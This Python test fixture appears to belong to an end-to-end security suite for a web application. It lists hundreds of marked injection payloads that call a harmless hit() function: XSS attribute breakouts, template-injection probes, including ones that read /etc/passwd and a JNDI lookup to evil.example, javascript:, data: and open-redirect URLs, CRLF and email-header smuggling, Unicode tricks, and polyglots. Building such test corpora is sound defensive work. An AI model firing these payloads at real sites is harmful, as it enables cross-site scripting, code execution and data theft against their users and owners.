"""Words that attack whoever shows them: each tries to become something else than words in a page.

``MARK`` stands where a mark goes that tells field and number. It is an attribute, an element's name or a plain word, so
that whatever a payload becomes can be found in a page; whatever runs calls ``hit()``.
"""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from typing import Final

from tests.e2e.hostile_markup import FOREIGN, FORMS, HTMX, STYLES, TAGS, TWICE_READ, events

LETTERS = "bcdfghjklm"  # for digits


LEAVING = (
    '"><img MARK src=x onerror=hit()>',
    "'><img MARK src=x onerror=hit()>",
    "`><img MARK src=x onerror=hit()>",
    "><img MARK src=x onerror=hit()>",
    '" MARK autofocus onfocus=hit() tabindex=1 x="',
    "' MARK autofocus onfocus=hit() tabindex=1 x='",
    " MARK onmouseover=hit() ",
    "&quot; MARK onfocus=hit() autofocus x=&quot;",
    "&#34; MARK onfocus=hit() autofocus x=&#34;",
    '" MARK style="animation:x" onanimationstart="hit()',
    '" MARK srcdoc="<script>parent.hit()</script>',
    '" MARK href="javascript:hit()',
    '" MARK type="image" src="x" onerror="hit()',
    '" MARK formaction="javascript:hit()',
    '" MARK is="x-y',
    '" MARK slot="x',
    '" MARK nonce="x',
    '\\" MARK onfocus=hit() autofocus x=\\"',
    "\"}]' MARK onfocus=hit() autofocus x='[{\"",
    '[{"id":"MARK","start":0,"end":9,"kind":"proven\\" onclick=hit() MARK=\\""}]',
    "\\'-hit()-\\' MARK",
    "';hit();// MARK",
    '";hit();// MARK',
    '\\\\";hit();// MARK',
    "`-hit()-` MARK",
    "*/hit()/* MARK",
    "\nhit() // MARK",
    "\u2028hit() // MARK",
    "'-hit()-' MARK",
    "-hit()- MARK",
    "</script>MARK<script>hit()</script>",
    "#main MARK, body",
    "MARK'] , [data-token] , ['",
)


TEMPLATES = (
    "{{ 7 * 7 }} MARK",
    "{{7*'7'}}MARK",
    "{% raw %}MARK{% endraw %}",
    "{% include '/etc/passwd' %}MARK",
    "{% for x in range(9) %}MARK{% endfor %}",
    "{# MARK #}",
    "{{ config }} MARK",
    "{{ visit.guest.token }} MARK",
    "{{ self.__init__.__globals__ }} MARK",
    "{{ ''.__class__.__mro__[1].__subclasses__() }} MARK",
    "{{ request|attr('application') }} MARK",
    "{{ MARK | safe }}",
    "{{ '<img src=x onerror=hit()>' | safe }} MARK",
    "{% set x = visit.network %}{{ x }} MARK",
    "{% call kit.form('/x') %}MARK{% endcall %}",
    "{{constructor.constructor('hit()')()}} MARK",
    "{{$on.constructor('hit()')()}} MARK",
    "[[MARK.constructor.constructor('hit()')()]]",
    "${hit()} MARK",
    "${7*7} MARK",
    "#{hit()} MARK",
    "#{7*7} MARK",
    "*{7*7} MARK",
    "@{7*7} MARK",
    "~{7*7} MARK",
    "<%= 7*7 %> MARK",
    "<% hit() %> MARK",
    "<?php hit() ?> MARK",
    "<#assign x=7*7>${x} MARK",
    "$MARK$",
    "%(token)s MARK",
    "%s%s%n MARK",
    "{0.__class__} {token} MARK",
    "%%MARK%%",
    "${jndi:ldap://evil.example/MARK}",
    "$(hit) `hit` MARK",
)

ADDRESSES = (
    "javascript:hit()//MARK",
    "JaVaScRiPt:hit()//MARK",
    " javascript:hit()//MARK",
    "\tjavascript:hit()//MARK",
    "java\tscript:hit()//MARK",
    "java\nscript:hit()//MARK",
    "java\r\nscript:hit()//MARK",
    "\x01javascript:hit()//MARK",
    "\x0bjavascript:hit()//MARK",
    "\u00a0javascript:hit()//MARK",
    "\u3000javascript:hit()//MARK",
    "javascript\x00:hit()//MARK",
    "javascript&colon;hit()//MARK",
    "javascript&#58;hit()//MARK",
    "&#106;avascript:hit()//MARK",
    "javascript%3ahit()//MARK",
    "javascript\uff1ahit()//MARK",
    "javascript://https://linkedin.com/in/MARK%0ahit()",
    "javascript:/*--></title></style>*/hit()//MARK",
    "javascript:'/MARK'-hit()",
    "vbscript:MsgBox(hit)//MARK",
    "VbScRiPt\t:hit MARK",
    "livescript:hit()//MARK",
    "mocha:hit()//MARK",
    "data:text/html,<script MARK>hit()</script>",
    "data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==#MARK",
    "DATA:image/svg+xml,<svg MARK onload=hit()>",
    "data:application/xhtml+xml,MARK",
    "data:,hit()//MARK",
    "blob:http://evil.example/MARK",
    "filesystem:http://evil.example/MARK",
    "view-source:http://evil.example/MARK",
    "feed:javascript:hit()//MARK",
    "jar:http://evil.example/MARK!/x",
    "file:///etc/passwd#MARK",
    "intent://evil.example/MARK#Intent;scheme=http;end",
    "ms-word:ofe|u|http://evil.example/MARK",
    "search-ms:query=MARK&crumb=location:\\\\evil.example",
    "smb://evil.example/MARK",
    "\\\\evil.example\\MARK",
    "//evil.example/MARK",
    "/\\evil.example/MARK",
    "///evil.example/MARK",
    "http:evil.example/MARK",
    "https:///evil.example/MARK",
    "http://127.0.0.1@evil.example/MARK",
    "http://evil.example\\@127.0.0.1/MARK",
    "http://[::1/MARK",
    "https://linkedin.com.evil.example/in/MARK",
    "https://evil.example/linkedin.com/in/MARK",
    "https://www.linkedin.com@evil.example/in/MARK",
    "https://www.linkedin.com/in/..%2f..%2flogout%3fMARK",
    "https://www.linkedin.com/in/MARK%0d%0aLocation:%20//evil.example",
    "https://www.linkedin.com/in/MARK?next=//evil.example#x",
    "https://www.linkedin.com/in/MARK%22%20onclick=hit()%20x=%22",
    "https://www.linkedin.com/in/%3Cimg%20MARK%20src=x%20onerror=hit()%3E",
    "mailto:a@b.example?bcc=MARK@evil.example&body=hit()",
    "MARK@evil.example?bcc=x@evil.example",
    "MARK%0d%0abcc:x@evil.example",
    "MARK&bcc=x@evil.example",
    "tel:+1;MARK=javascript:hit()",
)


ODD_LETTERS = (
    "\uff1cscript MARK\uff1ehit()\uff1c/script\uff1e",
    "\ufe64img MARK src=x onerror=hit()\ufe65",
    "\u2039img MARK onerror=hit()\u203a",
    "\u02c2script MARK\u02c3hit()",
    "\u226escript MARK\u226fhit()",
    "<\u0338script MARK>hit()</script>",
    "<\u0455cript MARK>hit()</\u0455cript>",
    "<\u017fcript MARK>hit()</\u017fcript>",
    "<\u0131mg MARK src=x onerror=hit()>",
    "<img\u00a0MARK src=x onerror=hit()>",
    "<img\u2003MARK\u2003src=x\u2003onerror=hit()>",
    "<img\x00 MARK src=x onerror=hit()>",
    "<\x00script MARK>hit()</script>",
    "<scr\x00ipt MARK>hit()</script>",
    "<img MARK src=x on\x00error=hit()>",
    "<img MARK\x0bsrc=x\x0bonerror=hit()>",
    "<img MARK src=x onerror\x1f=hit()>",
    "\u202e<img MARK src=x onerror=hit()>\u202c",
    "\u202e)(tih MARK",
    "\u2066\u2067\u2068MARK\u2069",
    "\u200f\u200eMARK\u061c",
    "\ufeff<script MARK>hit()</script>",
    "<scr\u200bipt MARK>hit()</script>",
    "<scr\u00adipt MARK>hit()</script>",
    "<script MARK>hit()\u2028</script>",
    "\x1b[31m<img MARK src=x onerror=hit()>\x1b[0m",
    "\x1b]8;;//evil.example/MARK\x07x\x1b]8;;\x07",
    "\x85<img MARK src=x onerror=hit()>\x9b",
    "\ud7ff<img MARK src=x onerror=hit()>\ufffd",
    "\ufffe\uffff<img MARK src=x onerror=hit()>",
    "\U000e003cscript MARK\U000e003ehit()",
    "\U0001f600<img MARK src=x onerror=hit()>\U0001f600",
    "a\u0300\u0301\u0302\u0303<img MARK src=x onerror=hit()>",
    "\u00ab\u0022><img MARK src=x onerror=hit()>",
    "\uff02 MARK onfocus=hit() autofocus x=\uff02",
    "\u2032 MARK onfocus=hit() \u2033",
    "\u02ba MARK onfocus=hit() autofocus x=\u02ba",
    '=HYPERLINK("//evil.example/MARK","hit")',
    "MARK " + "A" * 150 + "<img src=x onerror=hit()>",
    "MARK " + "<" * 60 + "img src=x onerror=hit()" + ">" * 60,
    "MARK " + "<b>" * 40 + "<img src=x onerror=hit()>",
)

POLYGLOTS = (
    (
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */hit() )//%0D%0A//"
        "</stYle/</titLe/</teXtarEa/</scRipt/--!><sVg/MARK/oNloAd=hit()//>"
    ),
    '">><marquee MARK><img src=x onerror=hit()></marquee>"></plaintext\\></|\\><plaintext/onmouseover=hit()>',
    "'\"-->]]>*/</script></style></title></textarea><img MARK src=x onerror=hit()>",
    "javascript:\"/*'/*`/*--></noscript></title></textarea></style></template></select></script><svg/MARK/onload=hit()>",
    "'-hit()-'\"><svg MARK onload=hit()>{{7*7}}${7*7}<%=7*7%>",
    "%27%22%3E%3Cimg MARK src=x onerror=hit()%3E",
    '1;hit()//\\";hit()//<!--<img MARK src=x onerror=hit()>',
    "\"`'><script MARK>\x20hit()</script>",
    "\"'`><\x00img MARK src=xxx:x \x20onerror=hit()>",
    '<a MARK"onclick=\'hit()\'"href="javascript:hit()">x',
    "</ScRiPt><ScRiPt MARK>hit()</ScRiPt>{%debug%}",
    '-->\'"/></sCript><deTailS MARK open x=">" ontoggle=(co\u006efirm)``>',
)


def payloads() -> tuple[str, ...]:
    """Return all of them, each with ``MARK`` in it, kinds mixed so that neighbours are of different kinds."""
    return tuple(_mixed())


def marked(payload: str, field: str, number: int) -> str:
    """Return a payload that tells in which field it stands and which of all it is."""
    return payload.replace("MARK", mark(field, number))


def mark(field: str, number: int) -> str:
    """Return the mark of a payload in a field: ``zznamexbcd``; letters only, for names lose all else."""
    return f"zz{field}x" + "".join(LETTERS[int(digit)] for digit in f"{number:03d}")


KINDS: Final[Mapping[str, tuple[str, ...]]] = {
    "tags": TAGS,
    "events": events(),
    "leaving": LEAVING,
    "addresses": ADDRESSES,
    "foreign": FOREIGN,
    "templates": TEMPLATES,
    "twice read": TWICE_READ,
    "styles": STYLES,
    "htmx": HTMX,
    "odd letters": ODD_LETTERS,
    "forms": FORMS,
    "polyglots": POLYGLOTS,
}


def _mixed() -> Iterator[str]:
    for place in range(max(map(len, KINDS.values()))):
        for kind in KINDS.values():
            if place < len(kind):
                yield kind[place]
